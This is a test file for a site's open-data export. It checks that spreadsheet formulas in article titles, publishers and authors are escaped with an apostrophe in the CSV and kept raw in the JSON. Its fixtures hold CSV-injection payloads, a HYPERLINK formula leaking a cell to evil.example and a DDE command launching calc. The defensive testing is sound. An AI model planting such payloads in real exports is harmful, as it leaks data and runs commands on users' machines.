/**
 * A title, a publisher and an author that a spreadsheet would run as formulas reach the open data's CSV
 * as text (a «'» before them), the JSON as they are, and the data page says so.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { ACCEPTED, buildHandSite } from './support/safety-sites.ts';

const site = buildHandSite('accepted', ACCEPTED);
const TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"سرت")';

describe('spreadsheet formulas in the open data', () => {
  it('start with «\'» in articles.csv, so a spreadsheet shows them as text', () => {
    expect(site.status, site.output).toBe(0);
    const rows = parse(readFileSync(join(site.dist, 'data', 'articles.csv'), 'utf8').slice(1), { columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r.id === '2016-12-formulas')!;
    expect([row.title, row.publisher, row.author]).toEqual([`'${TITLE}`, "'@رويترز", "'+cmd|' /C calc'!A0"]);
    // No text cell of any row starts a formula.
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it('are kept as written in articles.json', () => {
    const rows = JSON.parse(readFileSync(join(site.dist, 'data', 'articles.json'), 'utf8')) as Record<string, unknown>[];
    expect(rows.find((r) => r.id === '2016-12-formulas')).toMatchObject({ title: TITLE, publisher: '@رويترز', author: "+cmd|' /C calc'!A0" });
  });

  it('are explained on the data page', () => {
    const html = readFileSync(join(site.dist, 'data', 'index.html'), 'utf8');
    expect(html).toContain('تُسبق بعلامة <bdi dir="ltr">\'</bdi>، كي يعرضها برنامج الجداول نصًا ولا ينفذها صيغةً');
  });
});
